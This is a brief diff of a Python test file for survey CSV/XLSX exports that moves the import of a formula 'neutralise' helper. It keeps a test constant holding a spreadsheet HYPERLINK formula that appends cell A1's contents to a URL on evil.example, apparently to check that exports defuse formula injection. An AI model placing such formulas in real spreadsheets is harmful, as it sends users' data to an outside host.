@@ -7,7 +7,8 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from surveys.exports import campaign_csv, campaign_xlsx, neutralise
+from services.web.spreadsheets import neutralise
+from surveys.exports import campaign_csv, campaign_xlsx
 from surveys.models import Inventory, InventoryRole, InventoryTask
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
